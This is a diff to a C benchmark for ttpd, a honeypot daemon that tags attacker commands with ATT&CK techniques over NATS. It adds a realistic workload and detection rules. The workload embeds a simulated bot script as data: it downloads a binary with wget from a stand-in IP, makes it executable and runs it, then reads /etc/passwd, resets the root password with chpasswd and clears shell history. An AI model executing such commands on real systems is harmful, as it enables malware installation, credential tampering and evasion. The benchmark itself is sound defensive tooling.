@@ -2,9 +2,8 @@
  * bench_bus: ttpd end to end on NATS.
  *
  * Starts its own nats-server on a free loopback port and the real
- * host/ttpd daemon, publishes N attacker.session.ended envelopes (one
- * "wget" command each, so one tag per event) and measures, for core and
- * JetStream mode:
+ * host/ttpd daemon, publishes N command events in attacker.session.ended
+ * envelopes and measures, for core and JetStream mode and two workloads:
  *   - events/s into SQLite at full publishing speed (first publish to the
  *     last row committed);
  *   - the latency from publish to the arrival of the event's ttp.tagged
@@ -17,8 +16,25 @@
  * Then it overloads the daemon (core, then JetStream) for S seconds and
  * samples its resident memory, which must stay flat.
  *
- *   bench_bus [N [S]]     (defaults 100000 and 20; env BENCH_BUS_N and
- *                         BENCH_BUS_OVERLOAD_S too; S < 4 skips it)
+ * Workloads (W):
+ *   worst      one command per envelope, every envelope a new attacker and
+ *              a new session, every command tagged: the most index pages
+ *              per row and the most bus messages per tag;
+ *   realistic  honeypot-like: few attackers (40 active at a time, a new
+ *              one every 10 sessions), each session one envelope of 20
+ *              commands of a typical bot script, 8 of which match a rule
+ *              (one tag each).  N counts commands, so N/20 envelopes.
+ *   both       (default) realistic, then worst.
+ *
+ *   bench_bus [N [S [W]]]  (defaults 100000, 20, both; env BENCH_BUS_N,
+ *                          BENCH_BUS_OVERLOAD_S, BENCH_BUS_WORKLOAD too;
+ *                          S < 4 skips the overload)
+ *
+ * BENCH_BUS_BASELINE=<build dir of another ttpd> runs every measurement
+ * with that build's daemon first, then with this one, in the same session
+ * (before/after figures under the same load).  BENCH_BUS_TAIL=1 also
+ * lists the slowest 1% of events of each run (envelope, latency, when it
+ * was published), to see where a latency tail comes from.
  *
  * Figures depend on the machine and on what else runs on it.
  */
@@ -179,21 +195,131 @@ connect_nats(void)
 	return nc;
 }
 
+/* The workload (see the header) and the daemon build under test. */
+enum workload { WL_WORST, WL_REALISTIC };
+static enum workload wl;
+static const char *daemon_dir;
+
+#define REAL_CMDS 20       /* commands per realistic session */
+#define REAL_TAGS 8        /* of which tagged */
+#define REAL_ACTIVE 40     /* attackers active at a time */
+
+/*
+ * A bot's session script (after a typical Cowrie/DECNET capture): 8 of
+ * the 20 commands match one of the bench rules below, once each.
+ */
+static const struct {
+	const char *fmt;	/* %d: the session number */
+	int tagged;
+} script[REAL_CMDS] = {
+	{ "uname -a", 1 },
+	{ "cat /proc/cpuinfo | grep name | wc -l", 1 },
+	{ "free -m | grep Mem", 0 },
+	{ "ls -lh $(which ls)", 0 },
+	{ "crontab -l", 1 },
+	{ "w", 0 },
+	{ "cd /tmp || cd /var/run || cd /mnt", 0 },
+	{ "wget http://198.51.100.7/bins/x86_%d", 1 },
+	{ "chmod +x x86_%d", 1 },
+	{ "./x86_%d ssh.bot", 0 },
+	{ "rm -rf x86_%d", 0 },
+	{ "echo -e hello", 0 },
+	{ "cat /etc/passwd", 1 },
+	{ "history -c", 1 },
+	{ "ps aux", 0 },
+	{ "echo root:Passw0rd%d|chpasswd", 1 },
+	{ "ls -la /home", 0 },
+	{ "df -h", 0 },
+	{ "export HISTFILE=/dev/null", 0 },
+	{ "exit", 0 },
+};
+
+/* Commands and tags per envelope. */
+static int
+cmds_per_env(void)
+{
+	return wl == WL_REALISTIC ? REAL_CMDS : 1;
+}
+
+static int
+tags_per_env(void)
+{
+	return wl == WL_REALISTIC ? REAL_TAGS : 1;
+}
+
+/* Envelope n; its session id "sess-<n>" lets ttp.tagged be matched. */
 static char *
 session_env(int n)
 {
-	char *s;
+	char *s, *cmds = NULL, *p, cmd[128];
+	unsigned att;
+	int k;
 
+	if (wl == WL_WORST) {
+		att = (unsigned)n;
+		if (asprintf(&cmds, "{\"id\":\"sess-%d#0\",\"command_text\":"
+		    "\"wget http://198.51.100.7/x%d\"}", n, n) < 0)
+			die("%s", "out of memory");
+	} else {
+		/* REAL_ACTIVE attackers at a time, drifting slowly */
+		att = (unsigned)(n / 10 + n % REAL_ACTIVE);
+		for (k = 0; k < REAL_CMDS; k++) {
+			snprintf(cmd, sizeof cmd, script[k].fmt, n);
+			if (asprintf(&p, "%s%s{\"id\":\"sess-%d#%d\","
+			    "\"command_text\":\"%s\"}", cmds != NULL ? cmds :
+			    "", k > 0 ? "," : "", n, k, cmd) < 0)
+				die("%s", "out of memory");
+			free(cmds);
+			cmds = p;
+		}
+	}
 	if (asprintf(&s,
 	    "{\"v\":1,\"id\":\"%032x\",\"topic\":\"attacker.session.ended\","
 	    "\"type\":\"session.ended\",\"ts\":1700000000.5,\"payload\":{"
-	    "\"session_id\":\"sess-%d\",\"attacker_uuid\":\"att-%d\","
-	    "\"attacker_ip\":\"10.0.0.1\",\"decky_id\":\"decky-1\","
-	    "\"service\":\"ssh\",\"commands\":[{\"id\":\"sess-%d#0\","
-	    "\"command_text\":\"wget http://198.51.100.7/x%d\"}]}}",
-	    (unsigned)n, n, n % 1000, n, n) < 0)
+	    "\"session_id\":\"sess-%d\",\"attacker_uuid\":"
+	    "\"%08x-0000-4000-8000-%012u\",\"attacker_ip\":\"10.%u.%u.%u\","
+	    "\"decky_id\":\"decky-%u\",\"service\":\"ssh\",\"commands\":"
+	    "[%s]}}", (unsigned)n, n, att * 2654435761u, att, (att >> 16) & 255,
+	    (att >> 8) & 255, att & 255, att % 24, cmds) < 0)
 		die("%s", "out of memory");
+	free(cmds);
 	return s;
+}
+
+/* The bench's rules: one per tagged script command, and wget for the
+ * worst case. */
+static void
+write_rules(const char *rdir)
+{
+	static const struct {
+		const char *id, *pattern, *tactic, *tech;
+	} rules[] = {
+		{ "TB0001", "\\bwget\\b", "TA0011", "T1105" },
+		{ "TB0002", "^uname\\b", "TA0007", "T1082" },
+		{ "TB0003", "/proc/cpuinfo", "TA0007", "T1082" },
+		{ "TB0004", "\\bcrontab\\s+-l", "TA0007", "T1053" },
+		{ "TB0005", "\\bchmod\\s+\\+x", "TA0005", "T1222" },
+		{ "TB0006", "/etc/passwd", "TA0006", "T1003" },
+		{ "TB0007", "\\bhistory\\s+-c", "TA0005", "T1070" },
+		{ "TB0008", "\\bchpasswd\\b", "TA0003", "T1098" },
+	};
+	char path[1024];
+	FILE *fp;
+	size_t i;
+
+	for (i = 0; i < sizeof rules / sizeof *rules; i++) {
+		snprintf(path, sizeof path, "%s/%s.yaml", rdir, rules[i].id);
+		if ((fp = fopen(path, "w")) == NULL)
+			die("cannot write %s", path);
+		fprintf(fp, "rule_id: %s\nrule_version: 1\nname: bench %s\n"
+		    "description: bench\napplies_to: [command]\n"
+		    "match:\n  field: command_text\n  pattern: '%s'\n"
+		    "emits:\n  - tactic: %s\n    technique_id: %s\n"
+		    "    confidence: 0.8\nevidence_fields: [command_text]\n",
+		    rules[i].id, rules[i].id, rules[i].pattern,
+		    rules[i].tactic, rules[i].tech);
+		fclose(fp);
+	}
 }
 
 /* ------------------------------------------------------- ceilings */
@@ -430,20 +556,23 @@ cmp_i64(const void *a, const void *b)
  * (0: as fast as possible).
  */
 static void
-run(const char *mode, int n, int rate, int run_no)
+run(const char *mode, int ncmds, int rate, int run_no)
 {
 	char sub[300], conf[512], db[512], log[512], bin[512], *text;
-	const char *bdir = getenv("TTPD_BUILDDIR");
+	const char *bdir = daemon_dir;
 	const char *argv[] = { bin, "-f", "-c", conf, NULL };
 	natsConnection *pubc, *subc;
 	natsSubscription *tsub, *hsub;
 	natsMsg *m;
 	jsCtx *js = NULL;
 	int64_t t0, last_progress, end_ns = 0, *lat;
-	long r, prev = -1, rss;
+	long r, prev = -1, rss, want;
 	int i, nlat = 0, js_mode = strcmp(mode, "jetstream") == 0;
+	int n = ncmds / cmds_per_env();
+	double secs;
 	FILE *fp;
 
+	want = (long)n * tags_per_env();
 	snprintf(sub, sizeof sub, "%s/run%d", dir, run_no);
 	mkdir(sub, 0755);
 	snprintf(conf, sizeof conf, "%s/ttpd.conf", sub);
@@ -452,7 +581,7 @@ run(const char *mode, int n, int rate, int run_no)
 	snprintf(bin, sizeof bin, "%s/host/ttpd", bdir);
 	if ((fp = fopen(conf, "w")) == NULL)
 		die("cannot write %s", conf);
-	fprintf(fp, "store: { path = \"%s\"; batch_size = 10000; };\n"
+	fprintf(fp, "store: { path = \"%s\"; };\n"
 	    "rules: { dirs = [ \"%s/rules\" ]; };\n"
 	    "plugins: { dir = \"%s/plugins/.libs\"; load = ( { name = "
 	    "\"rule_engine\"; } ); };\n"
@@ -491,7 +620,8 @@ run(const char *mode, int n, int rate, int run_no)
 
 		if (rate > 0) {
 			/* sleep, not spin: the daemon needs the cores */
-			int64_t due = t0 + (int64_t)i * 1000000000 / rate;
+			int64_t due = t0 + (int64_t)i * cmds_per_env() *
+			    1000000000 / rate;
 			int64_t ahead = due - now_ns();
 
 			if (ahead > 0) {
@@ -521,7 +651,7 @@ run(const char *mode, int n, int rate, int run_no)
 			last_progress = now_ns();
 			end_ns = last_progress;
 		}
-		if (r >= n || now_ns() - last_progress > 3000000000LL)
+		if (r >= want || now_ns() - last_progress > 3000000000LL)
 			break;
 		msleep(5);
 	}
@@ -530,14 +660,33 @@ run(const char *mode, int n, int rate, int run_no)
 	for (i = 0; i < n; i++)
 		if (tag_ns[i] > 0)
 			lat[nlat++] = tag_ns[i] - pub_ns[i];
+	if (getenv("BENCH_BUS_TAIL") != NULL) {
+		/* where the slowest events were (debugging the tail) */
+		int64_t thr;
+		int64_t *cp = calloc((size_t)n, sizeof *cp);
+
+		memcpy(cp, lat, (size_t)nlat * sizeof *lat);
+		qsort(cp, (size_t)nlat, sizeof *cp, cmp_i64);
+		thr = nlat > 0 ? cp[(size_t)((double)nlat * 0.99)] : 0;
+		printf("tail: ");
+		for (i = 0; i < n; i++)
+			if (tag_ns[i] > 0 && tag_ns[i] - pub_ns[i] >= thr)
+				printf("%d:%.0fms@%.0fms ", i, (double)(tag_ns[i] -
+				    pub_ns[i]) / 1e6, (double)(pub_ns[i] - t0) /
+				    1e6);
+		printf("\n");
+		free(cp);
+	}
 	qsort(lat, (size_t)nlat, sizeof *lat, cmp_i64);
+	secs = (double)(end_ns - t0) / 1e9;
 	if (rate == 0)
-		printf("%-9s full speed: %8.0f events/s into SQLite (%ld of %d "
-		    "rows in %.2f s)", mode, (double)prev /
-		    ((double)(end_ns - t0) / 1e9), prev, n,
-		    (double)(end_ns - t0) / 1e9);
+		printf("%-9s full speed: %8.0f command events/s, %7.0f tags/s "
+		    "into SQLite (%ld of %ld tags in %.2f s)", mode,
+		    (double)prev / tags_per_env() * cmds_per_env() / secs,
+		    (double)prev / secs, prev, want, secs);
 	else
-		printf("%-9s paced %d/s: %ld of %d rows", mode, rate, prev, n);
+		printf("%-9s paced %d command events/s: %ld of %ld tags", mode,
+		    rate, prev, want);
 	if (nlat > 0)
 		printf("; publish->ttp.tagged p50 %.1f ms p99 %.1f ms",
 		    (double)lat[nlat / 2] / 1e6,
@@ -580,7 +729,7 @@ static void
 overload(const char *mode, int secs, int run_no)
 {
 	char sub[300], conf[512], db[512], log[512], bin[512], line[4096];
-	const char *bdir = getenv("TTPD_BUILDDIR");
+	const char *bdir = daemon_dir;
 	const char *argv[] = { bin, "-f", "-c", conf, NULL };
 	natsConnection *pubc, *subc;
 	natsSubscription *hsub;
@@ -659,11 +808,11 @@ overload(const char *mode, int secs, int run_no)
 	if (js_mode)
 		js_PublishAsyncComplete(js, NULL);
 	natsConnection_Flush(pubc);
-	printf("%-9s overload %d s: %ld published; ttpd RSS at 1 s %.1f, "
+	printf("%-9s overload %d s: %ld envelopes published; ttpd RSS at 1 s %.1f, "
 	    "%d s %.1f, %d s %.1f, %d s %.1f MiB (max %.1f); %ld rows\n",
 	    mode, secs, published, rss[0] / 1024.0, secs / 4,
 	    rss[1] / 1024.0, secs / 2, rss[2] / 1024.0, secs,
-	    rss[3] / 1024.0, maxr / 1024.0, rows(db));
+	    rss[3] / 1024.0, maxr / 1024.0, rows(db) < 0 ? 0 : rows(db));
 	stop(&ttpd_pid);
 	if ((fp = fopen(log, "r")) != NULL) {
 		while (fgets(line, sizeof line, fp) != NULL)
@@ -682,21 +831,80 @@ overload(const char *mode, int secs, int run_no)
 	natsConnection_Destroy(subc);
 }
 
+/* One measurement for each daemon build (baseline first). */
+static void
+measure(const char *base, const char *what, void (*fn)(const char *, int,
+    int, int), const char *mode, int n, int rate, int *run_no)
+{
+	const char *self = getenv("TTPD_BUILDDIR");
+
+	if (base != NULL) {
+		daemon_dir = base;
+		printf("[baseline %s] ", what);
+		fn(mode, n, rate, (*run_no)++);
+		printf("[this build %s] ", what);
+	}
+	daemon_dir = self;
+	fn(mode, n, rate, (*run_no)++);
+}
+
+static void
+overload_fn(const char *mode, int secs, int unused, int run_no)
+{
+	(void)unused;
+	overload(mode, secs, run_no);
+}
+
+static void
+workload(const char *base, int n, int overload_s, int *run_no)
+{
+	int paced = n / 4 > 30000 ? 30000 : n / 4;
+
+	printf("-- workload %s: %s\n", wl == WL_REALISTIC ? "realistic" :
+	    "worst", wl == WL_REALISTIC ? "sessions of 20 commands (8 "
+	    "tagged) in one envelope each, 40 attackers active at a time" :
+	    "one command per envelope, each a new attacker and session, "
+	    "every command tagged");
+	measure(base, "core", run, "core", n, 0, run_no);
+	measure(base, "core", run, "core", paced, 10000, run_no);
+	measure(base, "jetstream", run, "jetstream", n, 0, run_no);
+	measure(base, "jetstream", run, "jetstream", paced, 10000, run_no);
+	if (overload_s >= 4) {
+		measure(base, "core", overload_fn, "core", overload_s, 0,
+		    run_no);
+		measure(base, "jetstream", overload_fn, "jetstream",
+		    overload_s, 0, run_no);
+	}
+}
+
 int
 main(int argc, char **argv)
 {
 	char tmpl[] = "/tmp/ttpd-bench.XXXXXX", path[512];
 	const char *env = getenv("BENCH_BUS_N");
 	const char *ov = getenv("BENCH_BUS_OVERLOAD_S");
+	const char *wls = argc > 3 ? argv[3] : getenv("BENCH_BUS_WORKLOAD");
+	const char *base = getenv("BENCH_BUS_BASELINE");
 	int n = argc > 1 ? atoi(argv[1]) : env != NULL ? atoi(env) : 100000;
 	int overload_s = argc > 2 ? atoi(argv[2]) : ov != NULL ? atoi(ov) :
 	    20;
-	FILE *fp;
+	int run_no = 1, do_real, do_worst;
 
+	if (wls == NULL)
+		wls = "both";
+	do_real = strcmp(wls, "both") == 0 || strcmp(wls, "realistic") == 0;
+	do_worst = strcmp(wls, "both") == 0 || strcmp(wls, "worst") == 0;
+	if (!do_real && !do_worst)
+		die("unknown workload %s (realistic, worst or both)", wls);
 	if (n < 1000)
 		n = 1000;
 	if (getenv("TTPD_BUILDDIR") == NULL)
 		die("%s", "set TTPD_BUILDDIR (make bench does)");
+	if (base != NULL) {
+		snprintf(path, sizeof path, "%s/host/ttpd", base);
+		if (access(path, X_OK) != 0)
+			die("BENCH_BUS_BASELINE: no daemon at %s", path);
+	}
 	if (access("/usr/sbin/nats-server", X_OK) != 0)
 		die("%s", "/usr/sbin/nats-server is missing (apt-get install "
 		    "nats-server)");
@@ -708,29 +916,22 @@ main(int argc, char **argv)
 	signal(SIGTERM, on_signal);
 	snprintf(path, sizeof path, "%s/rules", dir);
 	mkdir(path, 0755);
-	snprintf(path, sizeof path, "%s/rules/TI0001.yaml", dir);
-	if ((fp = fopen(path, "w")) == NULL)
-		die("cannot write %s", path);
-	fputs("rule_id: TI0001\nrule_version: 1\nname: wget\n"
-	    "description: bench\napplies_to: [command]\n"
-	    "match:\n  field: command_text\n  pattern: '\\bwget\\b'\n"
-	    "emits:\n  - tactic: TA0011\n    technique_id: T1105\n"
-	    "    confidence: 0.8\nevidence_fields: [command_text]\n", fp);
-	fclose(fp);
+	write_rules(path);
 	start_nats();
-	printf("bench_bus: N=%d session envelopes (one command, one tag "
-	    "each); nats-server, publisher and ttpd on this machine "
-	    "(figures from a shared machine vary by tens of %%)\n", n);
+	printf("bench_bus: N=%d command events per run; nats-server, "
+	    "publisher and ttpd on this machine (figures from a shared "
+	    "machine vary by tens of %%)\n", n);
+	wl = WL_WORST;
 	ceiling_core(n);
 	ceiling_js(n);
 	ceiling_sqlite(n);
-	run("core", n, 0, 1);
-	run("core", n / 4 > 30000 ? 30000 : n / 4, 10000, 2);
-	run("jetstream", n, 0, 3);
-	run("jetstream", n / 4 > 30000 ? 30000 : n / 4, 10000, 4);
-	if (overload_s >= 4) {
-		overload("core", overload_s, 5);
-		overload("jetstream", overload_s, 6);
+	if (do_real) {
+		wl = WL_REALISTIC;
+		workload(base, n, overload_s, &run_no);
+	}
+	if (do_worst) {
+		wl = WL_WORST;
+		workload(base, n, overload_s, &run_no);
 	}
 	nats_Close();
 	return 0;
